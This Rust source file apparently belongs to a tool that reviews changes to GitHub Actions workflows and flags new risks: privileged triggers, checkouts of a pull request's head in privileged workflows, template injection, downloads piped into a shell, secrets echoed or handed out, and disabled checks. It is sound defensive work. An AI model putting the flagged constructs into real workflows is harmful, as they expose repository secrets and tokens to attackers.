//! GitHub Actions: what a change to a workflow or a composite action does.
//! Each check compares base and head and reports only what the head adds:
//! a risky construct already on base is not the agent's doing.

use std::cell::OnceCell;
use std::collections::{BTreeMap, BTreeSet, HashMap};

use serde_yaml::Value;

use crate::finding::Severity;
use crate::rules::workflow_risk::pipeline::Risk;
use crate::rules::workflow_risk::script_risk::{self, ScriptRisk, Taint};
use crate::rules::workflow_risk::yaml_doc::{get, key, keys, scalar, strings, Doc, Seg};

mod classes;
mod expression;
mod neutralised;
mod permissions;
mod uses;

use expression::{always_false, truthy};
use neutralised::{neutralised_job, removed_jobs};
use permissions::permissions;
use uses::{uses_index, uses_risk};

/// Triggers that run with the base repository's secrets and a write token
/// on events anyone can cause.
const PRIVILEGED_TRIGGERS: [(&str, &str); 3] = [
    (
        "pull_request_target",
        "it runs on pull requests from forks with the repository's secrets and a write token",
    ),
    (
        "workflow_run",
        "it runs with secrets and a write token after another workflow, often on a fork's code or artifacts",
    ),
    (
        "issue_comment",
        "anyone who can comment starts it, with the repository's secrets and a write token",
    ),
];

/// Triggers whose event text is written by people outside the repository.
const UNTRUSTED_TRIGGERS: [&str; 6] = [
    "pull_request_target",
    "workflow_run",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
];

/// Triggers that make a workflow's checks run on proposed changes.
const CHECK_TRIGGERS: [&str; 3] = ["pull_request", "push", "merge_group"];

/// The risks a changed workflow adds; `base` is `None` for a new workflow.
pub(crate) fn workflow(base: Option<&Doc>, head: &Doc) -> Vec<Risk> {
    workflow_with(base, head, None)
}

/// The job checks' judgements of the versions of one workflow over one
/// base, kept by job section (see [`Sections::jobs`]): blame judges
/// hundreds of versions of a large workflow in which most jobs are the
/// text the version after them had (uv's history: 5,582 jobs judged,
/// three quarters of them unchanged, at ~0.12 M instructions each).
///
/// A job's checks read its own value, the base (fixed for one memo), the
/// workflow-level values in [`JobContext`] and the document's lines, which
/// a version read without lines does not have: a job whose section and
/// context an earlier version had gets the same risks, in the same order.
///
/// [`Sections::jobs`]: crate::rules::workflow_risk::yaml_sections::Sections::jobs
///
/// A changed job's steps are kept the same way, by their value, as most of
/// them are the text they were: a step's checks read its value, its index
/// (its number is in the risks' words), its key among the job's steps (which
/// finds its base step), the job's name, environment and publishing, and the
/// context; the base's steps, `uses:` and scripts are fixed for one memo.
#[derive(Default)]
pub(crate) struct JobMemo {
    /// The contexts seen, each with the risks judged in it.
    contexts: Vec<(JobContext, Judged)>,
    /// Jobs judged, and jobs whose judgement was reused.
    pub(crate) judged: usize,
    pub(crate) reused: usize,
    /// Steps of judged jobs judged, and steps whose judgement was reused.
    pub(crate) steps_judged: usize,
    pub(crate) steps_reused: usize,
}

/// The judgements kept for one [`JobContext`].
#[derive(Default)]
struct Judged {
    /// Jobs' risks by section number.
    jobs: HashMap<u64, Vec<Risk>>,
    /// Steps' risks by what of the job their checks read, then by
    /// [`step_hash`].
    steps: HashMap<StepScope, HashMap<u64, Vec<KeptStep>>>,
    /// Steps kept, over all scopes.
    steps_kept: usize,
}

/// What the checks of a job's steps read of the job.
#[derive(PartialEq, Eq, Hash)]
struct StepScope {
    job: String,
    env: Env,
    publishing: Option<String>,
    tags_only: bool,
}

/// One step's judgement and what it was judged on.
struct KeptStep {
    index: usize,
    key: String,
    step: Value,
    risks: Vec<Risk>,
}

/// Steps kept for one context before they are all dropped, to bound memory
/// (a step's value is a few hundred bytes to a few KB).
const MEMO_STEPS: usize = 20_000;

/// The step judgements of one job's scope, for [`steps_risks`].
struct StepMemo<'m> {
    kept: &'m mut HashMap<u64, Vec<KeptStep>>,
    count: &'m mut usize,
    judged: &'m mut usize,
    reused: &'m mut usize,
}

/// A step value's hash for the memo: `Value`'s own (a mapping's entries in
/// any order hash alike; [`same`] tells them apart), seeded once a run.
fn step_hash(step: &Value) -> u64 {
    use std::hash::BuildHasher;
    static SEED: std::sync::LazyLock<foldhash::fast::RandomState> =
        std::sync::LazyLock::new(foldhash::fast::RandomState::default);
    SEED.hash_one(step)
}

/// Equal values in the same order: `Value`'s `==` ignores the order of a
/// mapping's entries, which the checks' risks follow (`with:` inputs), and
/// takes `-0.0` for `0.0`, which print apart. A tagged value is never the
/// same (no workflow step has one; it is judged again).
pub(crate) fn same(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Null, Value::Null) => true,
        (Value::Bool(x), Value::Bool(y)) => x == y,
        (Value::Number(x), Value::Number(y)) => {
            if x.is_f64() || y.is_f64() {
                x.is_f64()
                    && y.is_f64()
                    && x.as_f64().map(f64::to_bits) == y.as_f64().map(f64::to_bits)
            } else {
                x.as_i64() == y.as_i64() && x.as_u64() == y.as_u64()
            }
        }
        (Value::String(x), Value::String(y)) => x == y,
        (Value::Sequence(x), Value::Sequence(y)) => {
            x.len() == y.len() && x.iter().zip(y).all(|(x, y)| same(x, y))
        }
        (Value::Mapping(x), Value::Mapping(y)) => {
            x.len() == y.len()
                && x.iter()
                    .zip(y)
                    .all(|((xk, xv), (yk, yv))| same(xk, yk) && same(xv, yv))
        }
        _ => false,
    }
}

/// Contexts kept: they change far less often than jobs (triggers, the
/// workflow's `env:`, free-text inputs and computed matrices).
const MEMO_CONTEXTS: usize = 8;

/// What the checks of one job read of the workflow around it.
#[derive(PartialEq, Eq)]
struct JobContext {
    on: BTreeSet<String>,
    env: Env,
    taint: Taint,
    publishing: Option<String>,
    tags_only: bool,
}

/// [`workflow`] for blame: the jobs of `head` whose section (`sections`,
/// the key and section number of each job, as the reader gave them) was
/// judged before in the same context are not judged again.
pub(crate) fn workflow_memo(
    base: Option<&Doc>,
    head: &Doc,
    sections: &[(Value, u64)],
    memo: &mut JobMemo,
) -> Vec<Risk> {
    workflow_with(base, head, Some((sections, memo)))
}

/// The section number of each job [`jobs`] lists, when every entry of the
/// `jobs:` mapping is the section the reader gave for it, in order (merge
/// keys or a whole read leave them apart: then nothing is reused).
fn job_sections(h: &Value, sections: &[(Value, u64)]) -> Option<Vec<u64>> {
    let m = get(h, "jobs").and_then(Value::as_mapping)?;
    if m.len() != sections.len() {
        return None;
    }
    let mut out = Vec::with_capacity(m.len());
    for ((k, _), (key, id)) in m.iter().zip(sections) {
        if k != key {
            return None;
        }
        if scalar(k).is_some() {
            out.push(*id);
        }
    }
    Some(out)
}

fn workflow_with(
    base: Option<&Doc>,
    head: &Doc,
    memo: Option<(&[(Value, u64)], &mut JobMemo)>,
) -> Vec<Risk> {
    let empty = Doc::empty();
    let base_doc = base.unwrap_or(&empty);
    let (b, h) = (&base_doc.value, &head.value);
    let mut out = Vec::new();

    let (b_on, h_on) = (triggers(b), triggers(h));
    let h_checkouts = pr_head_checkouts(head, &h_on);
    let b_checkouts = pr_head_checkouts(base_doc, &b_on);
    for (trigger, why) in PRIVILEGED_TRIGGERS {
        if h_on.contains(trigger) && !b_on.contains(trigger) {
            let severity = if h_checkouts.is_empty() {
                Severity::High
            } else {
                Severity::Critical
            };
            let mut risk = Risk::new(
                format!("the workflow is now triggered by `{trigger}`"),
                why,
                severity,
            )
            .line(head.line(&[key("on"), key(trigger)]))
            .class("dangerous-triggers");
            if let Some((job, _, _)) = h_checkouts.first() {
                risk = risk.evidence(format!(
                    "job `{job}` checks out the pull request's head: untrusted code runs with those secrets"
                ));
            }
            out.push(risk);
        }
    }
    if let Some(trigger) = PRIVILEGED_TRIGGERS
        .iter()
        .map(|(t, _)| *t)
        .find(|t| h_on.contains(*t))
    {
        for (job, step, line) in &h_checkouts {
            if !b_checkouts.iter().any(|(j, s, _)| j == job && s == step) {
                out.push(
                    Risk::new(
                        format!("job `{job}` checks out or fetches the pull request's head in a `{trigger}` workflow"),
                        "code from the pull request runs with the repository's secrets and a write token (a \"pwn request\")",
                        Severity::Critical,
                    )
                    .job(Some(job))
                    .line(*line)
                    .class("dangerous-triggers"),
                );
            }
        }
    }
    if base.is_some() {
        for trigger in CHECK_TRIGGERS {
            if b_on.contains(trigger) && !h_on.contains(trigger) {
                out.push(
                    Risk::new(
                        format!("the workflow no longer runs on `{trigger}`"),
                        "the checks it ran stop running on proposed changes",
                        Severity::High,
                    )
                    .line(head.line(&[key("on")])),
                );
            }
        }
    }

    permissions(base_doc, head, &mut out);

    let (b_jobs, h_jobs) = (jobs(b), jobs(h));
    if base.is_some() {
        removed_jobs(&b_jobs, &h_jobs, head, &mut out);
    }
    let base_uses = uses_index(b);
    let base_scripts = script_index(base_doc, &b_on);
    let h_untrusted = h_on
        .iter()
        .any(|t| UNTRUSTED_TRIGGERS.contains(&t.as_str()));
    let wf_env = env_of(h);
    let taint = workflow_taint(h);
    classes::workflow_level(base_doc, head, &mut out);
    let wf_publishing = classes::publishing(on_value(h), &h_on);
    let wf_tags_only = classes::tags_only(on_value(h), &h_on);
    // The judgements kept for this context, and each job's section; none
    // when the head has lines (the risks would hold them).
    let (mut judged, ids, mut count) = match memo {
        Some((sections, memo)) if !head.has_lines() => {
            let ids = job_sections(h, sections);
            let context = JobContext {
                on: h_on.clone(),
                env: wf_env.clone(),
                taint: taint.clone(),
                publishing: wf_publishing.clone(),
                tags_only: wf_tags_only,
            };
            let at = match memo.contexts.iter().position(|(c, _)| *c == context) {
                Some(at) => at,
                None => {
                    if memo.contexts.len() >= MEMO_CONTEXTS {
                        memo.contexts.remove(0);
                    }
                    memo.contexts.push((context, Judged::default()));
                    memo.contexts.len() - 1
                }
            };
            let JobMemo {
                contexts,
                judged,
                reused,
                steps_judged,
                steps_reused,
            } = memo;
            (
                Some(&mut contexts[at].1),
                ids,
                Some((judged, reused, steps_judged, steps_reused)),
            )
        }
        _ => (None, None, None),
    };
    for (n, (id, job)) in h_jobs.iter().enumerate() {
        let section = ids.as_ref().and_then(|ids| ids.get(n).copied());
        if let (Some(section), Some(judged)) = (section, judged.as_deref()) {
            if let Some(risks) = judged.jobs.get(&section) {
                out.extend(risks.iter().cloned());
                if let Some((_, reused, _, _)) = count.as_mut() {
                    **reused += 1;
                }
                continue;
            }
        }
        let start = out.len();
        let path = [key("jobs"), key(id)];
        let base_job = b_jobs.iter().find(|(bid, _)| bid == id).map(|(_, j)| *j);
        if let Some(bj) = base_job {
            neutralised_job(id, bj, job, head, &mut out);
        }
        if get(job, "secrets").and_then(scalar).as_deref() == Some("inherit")
            && base_job
                .and_then(|bj| get(bj, "secrets"))
                .and_then(scalar)
                .as_deref()
                != Some("inherit")
        {
            out.push(
                Risk::new(
                    format!("job `{id}` passes every secret to a called workflow (`secrets` set to `inherit`)"),
                    "the called workflow receives every secret of the repository, not only the ones it needs",
                    Severity::High,
                )
                .job(Some(id))
                .line(head.line(&[key("jobs"), key(id), key("secrets")]))
                .class("secrets-inherit"),
            );
        }
        if let Some(uses) = get(job, "uses").and_then(scalar) {
            uses_risk(
                &uses,
                &base_uses,
                Some(id),
                || head.line(&[key("jobs"), key(id), key("uses")]),
                &mut out,
            );
        }
        classes::job_level(id, base_job, job, head, &h_on, &mut out);
        let job_env = merge_env(&wf_env, &env_of(job));
        let steps = steps(job);
        let base_steps = base_job.map(steps_of).unwrap_or_default();
        let publishing = wf_publishing
            .clone()
            .or_else(|| classes::publishes(job).then(|| "a publishing step".to_string()));
        let tags_only = wf_tags_only && !classes::publishes(job);
        let step_memo = match (judged.as_deref_mut(), count.as_mut()) {
            (Some(judged), Some((_, _, steps_judged, steps_reused))) => {
                if judged.steps_kept >= MEMO_STEPS {
                    judged.steps.clear();
                    judged.steps_kept = 0;
                }
                let scope = StepScope {
                    job: id.clone(),
                    env: job_env.clone(),
                    publishing: publishing.clone(),
                    tags_only,
                };
                Some(StepMemo {
                    kept: judged.steps.entry(scope).or_default(),
                    count: &mut judged.steps_kept,
                    judged: steps_judged,
                    reused: steps_reused,
                })
            }
            _ => None,
        };
        steps_risks(
            &Scope {
                doc: head,
                job: Some(id),
                path: &path,
                env: &job_env,
                untrusted: h_untrusted.then(|| untrusted_trigger(&h_on)),
                taint: &taint,
                on: &h_on,
                publishing,
                tags_only,
            },
            &steps,
            &BaseFacts {
                steps: &base_steps,
                uses: &base_uses,
                scripts: &base_scripts,
            },
            step_memo,
            &mut out,
        );
        if let Some((judged_jobs, _, _, _)) = count.as_mut() {
            **judged_jobs += 1;
        }
        if let (Some(section), Some(judged)) = (section, judged.as_deref_mut()) {
            judged.jobs.insert(section, out[start..].to_vec());
        }
    }
    out
}

/// A deleted workflow: every job it ran is gone.
pub(crate) fn workflow_deleted(base: &Doc) -> Vec<Risk> {
    let ids: Vec<String> = jobs(&base.value).into_iter().map(|(id, _)| id).collect();
    vec![Risk::new(
        format!(
            "the workflow is deleted; its jobs no longer run: {}",
            ids.iter().map(|i| format!("`{i}`")).collect::<Vec<_>>().join(", ")
        ),
        "checks and gates it ran stop running; a required check that never reports may be dropped from protection next",
        Severity::High,
    )]
}

/// The risks a changed composite (or other) action adds.
pub(crate) fn action(base: Option<&Doc>, head: &Doc) -> Vec<Risk> {
    let empty = Doc::empty();
    let base_doc = base.unwrap_or(&empty);
    let runs = |d: &Doc| get(&d.value, "runs").cloned().unwrap_or(Value::Null);
    let (b_runs, h_runs) = (runs(base_doc), runs(head));
    let mut out = Vec::new();
    let base_uses = uses_index(&base_doc.value);
    let base_scripts = script_index(base_doc, &BTreeSet::new());
    if let Some(image) = get(&h_runs, "image").and_then(scalar) {
        if let Some(docker) = image.strip_prefix("docker://") {
            let target = format!("docker://{docker}");
            uses_risk(
                &target,
                &base_uses,
                None,
                || head.line(&[key("runs"), key("image")]),
                &mut out,
            );
        }
    }
    let path = [key("runs")];
    steps_risks(
        &Scope {
            doc: head,
            job: None,
            path: &path,
            env: &BTreeMap::new(),
            untrusted: None,
            taint: &action_taint(),
            on: &BTreeSet::new(),
            publishing: None,
            tags_only: false,
        },
        &steps(&h_runs),
        &BaseFacts {
            steps: &steps_of(&b_runs),
            uses: &base_uses,
            scripts: &base_scripts,
        },
        None,
        &mut out,
    );
    out
}

/// Environment variables by name.
type Env = BTreeMap<String, String>;

/// Where a list of steps lives and what surrounds it.
struct Scope<'a> {
    doc: &'a Doc,
    job: Option<&'a str>,
    /// Path to the mapping that holds `steps`.
    path: &'a [Seg],
    /// Environment variables visible to the steps (name → value).
    env: &'a BTreeMap<String, String>,
    /// The untrusted trigger of the workflow, if it has one.
    untrusted: Option<&'a str>,
    /// The inputs and matrix values that carry attacker-chosen text.
    taint: &'a Taint,
    /// The workflow's triggers (empty for an action).
    on: &'a BTreeSet<String>,
    /// Why the job publishes a release or package, if it does.
    publishing: Option<String>,
    /// It publishes only from tags (see `classes::tags_only`).
    tags_only: bool,
}

impl Scope<'_> {
    fn step_path(&self, i: usize, k: Option<&str>) -> Vec<Seg> {
        let mut p = self.path.to_vec();
        p.push(key("steps"));
        p.push(Seg::Index(i));
        if let Some(k) = k {
            p.push(key(k));
        }
        p
    }

    fn who(&self) -> String {
        match self.job {
            Some(j) => format!("job `{j}`"),
            None => "the action".to_string(),
        }
    }
}

/// What a step's checks read of base, fixed for one [`JobMemo`].
struct BaseFacts<'a> {
    steps: &'a [(String, Value)],
    uses: &'a BTreeMap<String, BTreeSet<String>>,
    scripts: &'a BTreeSet<ScriptRisk>,
}

fn steps_risks(
    scope: &Scope<'_>,
    head_steps: &[(String, &Value)],
    base: &BaseFacts<'_>,
    mut memo: Option<StepMemo<'_>>,
    out: &mut Vec<Risk>,
) {
    let who = scope.who();
    for (i, (step_key, step)) in head_steps.iter().enumerate() {
        let Some(memo) = memo.as_mut() else {
            step_risks(scope, &who, i, step_key, step, base, out);
            continue;
        };
        let hash = step_hash(step);
        let kept = memo.kept.get(&hash).and_then(|bucket| {
            bucket
                .iter()
                .find(|k| k.index == i && k.key == *step_key && same(&k.step, step))
        });
        if let Some(kept) = kept {
            out.extend(kept.risks.iter().cloned());
            *memo.reused += 1;
            continue;
        }
        let start = out.len();
        step_risks(scope, &who, i, step_key, step, base, out);
        *memo.judged += 1;
        *memo.count += 1;
        memo.kept.entry(hash).or_default().push(KeptStep {
            index: i,
            key: step_key.clone(),
            step: (*step).clone(),
            risks: out[start..].to_vec(),
        });
    }
}

/// The risks of step `i` of a job (or action): its `step_key` finds its
/// base step.
fn step_risks(
    scope: &Scope<'_>,
    who: &str,
    i: usize,
    step_key: &str,
    step: &Value,
    base: &BaseFacts<'_>,
    out: &mut Vec<Risk>,
) {
    let (base_steps, base_uses, base_scripts) = (base.steps, base.uses, base.scripts);
    {
        let label = step_label(step, i);
        let base_step = base_steps
            .iter()
            .find(|(k, _)| k == step_key)
            .map(|(_, s)| s);
        if let Some(bs) = base_step {
            if always_false(get(step, "if")) && !always_false(get(bs, "if")) {
                out.push(
                    Risk::new(
                        format!("{who} step {label} is switched off by `if: {}`", show(get(step, "if"))),
                        "a step that never runs cannot fail: the check it made is skipped, not failed",
                        Severity::High,
                    )
                    .job(scope.job)
                    .line(scope.doc.line(&scope.step_path(i, Some("if")))),
                );
            }
            if truthy(get(step, "continue-on-error")) && !truthy(get(bs, "continue-on-error")) {
                out.push(
                    Risk::new(
                        format!("{who} step {label} now has `continue-on-error: {}`", show(get(step, "continue-on-error"))),
                        "its failure no longer fails the job: the check passes whatever the step finds",
                        Severity::High,
                    )
                    .job(scope.job)
                    .line(scope.doc.line(&scope.step_path(i, Some("continue-on-error")))),
                );
            }
        }
        if let Some(uses) = get(step, "uses").and_then(scalar) {
            uses_risk(
                &uses,
                base_uses,
                scope.job,
                || scope.doc.line(&scope.step_path(i, Some("uses"))),
                out,
            );
            for (input, expr) in code_input_injections(step, scope.taint) {
                if base_scripts.contains(&ScriptRisk::Injection(expr.clone())) {
                    continue;
                }
                let mut p = scope.step_path(i, Some("with"));
                p.push(key(&input));
                out.push(
                    Risk::new(
                        format!("{who} step {label} expands `${{{{ {expr} }}}}` inside `run:`-like code (input `{input}` of `{}`)", uses.split('@').next().unwrap_or_default()),
                        INJECTION_WHY,
                        Severity::Critical,
                    )
                    .job(scope.job)
                    .line(scope.doc.line(&p))
                    .class("template-injection"),
                );
            }
        }
        classes::step_level(scope, i, step_key, step, base_step, &label, out);
        let Some(run) = get(step, "run").and_then(scalar) else {
            return;
        };
        // The run's line is asked only of a risk that stays: most steps
        // have none, and a workflow's first line read parses its positions.
        let run_line = OnceCell::new();
        let run_line =
            || *run_line.get_or_init(|| scope.doc.line(&scope.step_path(i, Some("run"))));
        let env = merge_env(scope.env, &env_of(step));
        let secret_vars: BTreeSet<String> = env
            .iter()
            .filter(|(_, v)| !script_risk::secret_names(v).is_empty())
            .map(|(k, _)| k.clone())
            .collect();
        for risk in script_risk::risks_in(&run, &secret_vars, Some(scope.taint)) {
            if base_scripts.contains(&risk) {
                continue;
            }
            let class = match &risk {
                ScriptRisk::Injection(_) => "template-injection",
                ScriptRisk::AllSecrets => "overprovisioned-secrets",
                ScriptRisk::PipeToShell(_) | ScriptRisk::SecretOut(_) => "remit",
            };
            let (what, why, severity, needle) = match &risk {
                ScriptRisk::Injection(expr) => (
                    format!("{who} step {label} expands `${{{{ {expr} }}}}` inside `run:`"),
                    INJECTION_WHY.to_string(),
                    Severity::Critical,
                    expr.clone(),
                ),
                ScriptRisk::PipeToShell(line) => (
                    format!("{who} step {label} pipes a download into a shell: `{}`", clip(line)),
                    "whatever the server returns at run time executes with the job's token and secrets, unreviewed".to_string(),
                    Severity::High,
                    line.clone(),
                ),
                ScriptRisk::SecretOut(name) => (
                    format!("{who} step {label} writes secret `{name}` out (echo, encoding or an output file)"),
                    "log masking misses transformed values: the secret can end up readable in logs or outputs".to_string(),
                    Severity::Critical,
                    name.clone(),
                ),
                ScriptRisk::AllSecrets => (
                    format!("{who} step {label} expands `toJSON(secrets)`"),
                    "every secret of the repository is handed to one script at once".to_string(),
                    Severity::Critical,
                    "secrets".to_string(),
                ),
            };
            out.push(
                Risk::new(what, why, severity)
                    .job(scope.job)
                    .line({
                        let run_line = run_line();
                        scope.doc.find_text(&needle, run_line).or(run_line)
                    })
                    .class(class),
            );
        }
        if let Some(trigger) = scope.untrusted {
            let mut names: BTreeSet<String> = env
                .values()
                .flat_map(|v| script_risk::secret_names(v))
                .collect();
            names.extend(script_risk::secret_names(&run));
            names.remove("GITHUB_TOKEN");
            for name in names {
                let key = ScriptRisk::SecretOut(format!("untrusted:{name}"));
                if base_scripts.contains(&key) {
                    continue;
                }
                out.push(
                    Risk::new(
                        format!("{who} step {label} hands secret `{name}` to a shell in a workflow triggered by `{trigger}`"),
                        "the event text and often the code come from outside the repository: a crafted event can read the secret",
                        Severity::High,
                    )
                    .job(scope.job)
                    .line(run_line()),
                );
            }
        }
    }
}

fn clip(s: &str) -> String {
    if s.chars().count() > 80 {
        format!("{}…", s.chars().take(80).collect::<String>())
    } else {
        s.to_string()
    }
}

/// The risky scripts already on base (and, for an untrusted trigger, the
/// secrets its shell steps already had), so only new ones are reported.
fn script_index(doc: &Doc, on: &BTreeSet<String>) -> BTreeSet<ScriptRisk> {
    let mut out = BTreeSet::new();
    let v = &doc.value;
    let untrusted = on.iter().any(|t| UNTRUSTED_TRIGGERS.contains(&t.as_str()));
    let wf_env = env_of(v);
    let taint = if get(v, "runs").is_some() {
        action_taint()
    } else {
        workflow_taint(v)
    };
    let mut lists: Vec<(Env, Vec<(String, &Value)>)> = jobs(v)
        .into_iter()
        .map(|(_, j)| (merge_env(&wf_env, &env_of(j)), steps(j)))
        .collect();
    if let Some(runs) = get(v, "runs") {
        lists.push((BTreeMap::new(), steps(runs)));
    }
    for (env, steps) in lists {
        for (_, step) in steps {
            for (_, expr) in code_input_injections(step, &taint) {
                out.insert(ScriptRisk::Injection(expr));
            }
            let Some(run) = get(step, "run").and_then(scalar) else {
                continue;
            };
            let env = merge_env(&env, &env_of(step));
            let secret_vars: BTreeSet<String> = env
                .iter()
                .filter(|(_, v)| !script_risk::secret_names(v).is_empty())
                .map(|(k, _)| k.clone())
                .collect();
            out.extend(script_risk::risks_in(&run, &secret_vars, Some(&taint)));
            if untrusted {
                for name in env
                    .values()
                    .flat_map(|v| script_risk::secret_names(v))
                    .chain(script_risk::secret_names(&run))
                {
                    out.insert(ScriptRisk::SecretOut(format!("untrusted:{name}")));
                }
            }
        }
    }
    out
}

const INJECTION_WHY: &str = "whoever writes that text (an issue title, a branch name, a caller's input) injects shell commands or script code that run with the job's token and secrets";

/// `with:` inputs that actions run as code: `actions/github-script`'s
/// `script`, the `run`/`cmd`/`inlineScript` of docker, yq, Azure and
/// similar script-running actions.
const CODE_INPUTS: [&str; 8] = [
    "script",
    "run",
    "cmd",
    "command",
    "commands",
    "inlinescript",
    "inline-script",
    "code",
];

/// `(input, expression)` for attacker-controlled expressions in a step's
/// code-taking `with:` inputs.
fn code_input_injections(step: &Value, taint: &Taint) -> Vec<(String, String)> {
    let Some(with) = get(step, "with").and_then(Value::as_mapping) else {
        return Vec::new();
    };
    if get(step, "uses").is_none() {
        return Vec::new();
    }
    let mut out = Vec::new();
    for (k, v) in with {
        let (Some(k), Some(v)) = (scalar(k), scalar(v)) else {
            continue;
        };
        if CODE_INPUTS.contains(&k.to_ascii_lowercase().as_str()) {
            for expr in script_risk::injections(&v, taint) {
                out.push((k.clone(), expr));
            }
        }
    }
    out
}

/// A composite action's inputs are all free text its caller chooses.
fn action_taint() -> Taint {
    Taint {
        all_inputs: true,
        ..Taint::default()
    }
}

/// A workflow's free-text inputs (`workflow_dispatch`/`workflow_call`,
/// untyped or `type: string`) and its matrix values computed by expressions.
fn workflow_taint(v: &Value) -> Taint {
    let mut t = Taint::default();
    if let Some(on) = on_value(v) {
        for trigger in ["workflow_dispatch", "workflow_call"] {
            let inputs = get(on, trigger)
                .and_then(|x| get(x, "inputs"))
                .and_then(Value::as_mapping);
            for (name, spec) in inputs.into_iter().flatten() {
                let ty = get(spec, "type").and_then(scalar);
                if matches!(ty.as_deref(), None | Some("string")) {
                    if let Some(name) = scalar(name) {
                        t.inputs.insert(name.to_ascii_lowercase());
                    }
                }
            }
        }
    }
    for (_, job) in jobs(v) {
        let Some(matrix) = get(job, "strategy").and_then(|s| get(s, "matrix")) else {
            continue;
        };
        match matrix {
            Value::Mapping(m) => {
                for (k, val) in m {
                    let k = scalar(k).unwrap_or_default().to_ascii_lowercase();
                    match (k.as_str(), val) {
                        ("include", Value::Sequence(rows)) => {
                            for row in rows.iter().filter_map(Value::as_mapping) {
                                for (rk, rv) in row {
                                    if has_expression(rv) {
                                        if let Some(rk) = scalar(rk) {
                                            t.matrix.insert(rk.to_ascii_lowercase());
                                        }
                                    }
                                }
                            }
                        }
                        ("include", other) if has_expression(other) => t.all_matrix = true,
                        ("exclude", _) => {}
                        (_, other) if has_expression(other) => {
                            t.matrix.insert(k);
                        }
                        _ => {}
                    }
                }
            }
            other if has_expression(other) => t.all_matrix = true,
            _ => {}
        }
    }
    t
}

/// Whether any string in `v` holds a `${{ }}` expression.
fn has_expression(v: &Value) -> bool {
    match v {
        Value::String(s) => s.contains("${{"),
        Value::Sequence(items) => items.iter().any(has_expression),
        Value::Mapping(m) => m.values().any(has_expression),
        _ => false,
    }
}

/// The workflow's `on:` (YAML 1.1 readers turn a bare `on` into `true`).
fn on_value(v: &Value) -> Option<&Value> {
    get(v, "on").or_else(|| v.as_mapping().and_then(|m| m.get(Value::Bool(true))))
}

fn untrusted_trigger(on: &BTreeSet<String>) -> &'static str {
    UNTRUSTED_TRIGGERS
        .iter()
        .find(|t| on.contains(**t))
        .copied()
        .unwrap_or("an untrusted event")
}

/// `(job, step key, line)` of steps that check out or fetch the PR's head.
fn pr_head_checkouts(doc: &Doc, on: &BTreeSet<String>) -> Vec<(String, String, Option<usize>)> {
    if !PRIVILEGED_TRIGGERS.iter().any(|(t, _)| on.contains(*t)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for (id, job) in jobs(&doc.value) {
        for (i, (step_key, step)) in steps(job).iter().enumerate() {
            let uses = get(step, "uses").and_then(scalar).unwrap_or_default();
            let checkout_ref = uses.starts_with("actions/checkout@")
                && get(step, "with")
                    .and_then(|w| get(w, "ref").or(get(w, "repository")))
                    .and_then(scalar)
                    .is_some_and(|r| script_risk::fetches_pr_head(&r) || r.contains("refs/pull/"));
            let run_fetch = get(step, "run")
                .and_then(scalar)
                .is_some_and(|r| script_risk::fetches_pr_head(&r));
            if checkout_ref || run_fetch {
                let k = if checkout_ref { "uses" } else { "run" };
                let line = doc.line(&[key("jobs"), key(&id), key("steps"), Seg::Index(i), key(k)]);
                out.push((id.clone(), step_key.clone(), line));
            }
        }
    }
    out
}

/// The events that trigger a workflow.
fn triggers(v: &Value) -> BTreeSet<String> {
    // YAML 1.1 readers turn a bare `on` key into `true`; accept both.
    let on = on_value(v);
    match on {
        Some(Value::Mapping(_)) => keys(on).into_iter().collect(),
        other => strings(other).into_iter().collect(),
    }
}

/// A job's `uses:` (a call to a reusable workflow).
fn get_uses(job: &Value) -> Option<String> {
    get(job, "uses").and_then(scalar)
}

fn jobs(v: &Value) -> Vec<(String, &Value)> {
    get(v, "jobs")
        .and_then(Value::as_mapping)
        .map(|m| {
            m.iter()
                .filter_map(|(k, j)| scalar(k).map(|k| (k, j)))
                .collect()
        })
        .unwrap_or_default()
}

/// Steps keyed for matching across versions: `id`, else `name`, else the
/// action without its ref, else the script; repeats get `#n`.
fn steps(holder: &Value) -> Vec<(String, &Value)> {
    let Some(items) = get(holder, "steps").and_then(Value::as_sequence) else {
        return Vec::new();
    };
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    items
        .iter()
        .enumerate()
        .map(|(i, step)| {
            let base = if let Some(id) = get(step, "id").and_then(scalar) {
                format!("id:{id}")
            } else if let Some(name) = get(step, "name").and_then(scalar) {
                format!("name:{name}")
            } else if let Some(uses) = get(step, "uses").and_then(scalar) {
                format!("uses:{}", uses.split('@').next().unwrap_or_default())
            } else if let Some(run) = get(step, "run").and_then(scalar) {
                format!("run:{}", run.trim())
            } else {
                format!("index:{i}")
            };
            let n = seen.entry(base.clone()).or_insert(0);
            *n += 1;
            let k = if *n == 1 { base } else { format!("{base}#{n}") };
            (k, step)
        })
        .collect()
}

fn steps_of(holder: &Value) -> Vec<(String, Value)> {
    steps(holder)
        .into_iter()
        .map(|(k, v)| (k, v.clone()))
        .collect()
}

fn step_label(step: &Value, i: usize) -> String {
    let text = get(step, "name")
        .or(get(step, "id"))
        .or(get(step, "uses"))
        .and_then(scalar)
        .or_else(|| {
            get(step, "run")
                .and_then(scalar)
                .map(|r| r.lines().next().unwrap_or_default().trim().to_string())
        });
    match text {
        Some(t) => format!("{} (`{}`)", i + 1, clip(&t)),
        None => (i + 1).to_string(),
    }
}

fn env_of(v: &Value) -> BTreeMap<String, String> {
    get(v, "env")
        .and_then(Value::as_mapping)
        .map(|m| {
            m.iter()
                .filter_map(|(k, v)| Some((scalar(k)?, scalar(v)?)))
                .collect()
        })
        .unwrap_or_default()
}

fn merge_env(
    outer: &BTreeMap<String, String>,
    inner: &BTreeMap<String, String>,
) -> BTreeMap<String, String> {
    let mut out = outer.clone();
    out.extend(inner.iter().map(|(k, v)| (k.clone(), v.clone())));
    out
}

fn show(v: Option<&Value>) -> String {
    v.and_then(scalar).unwrap_or_else(|| "?".to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: &str = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n";

    /// Lines are asked only of the risks that stay: a head whose steps add
    /// none never reads its positions, and one that adds risks gets the
    /// lines an eager read gives (the `uses:` and `run:` keys' own lines).
    #[test]
    fn step_lines_are_read_only_for_risks_that_stay() {
        let base = Doc::parse(BASE).expect("base");
        let quiet = Doc::parse(&BASE.replace("cargo test", "cargo test --all")).expect("quiet");
        assert!(workflow(Some(&base), &quiet).is_empty());
        assert!(!quiet.positions_read());

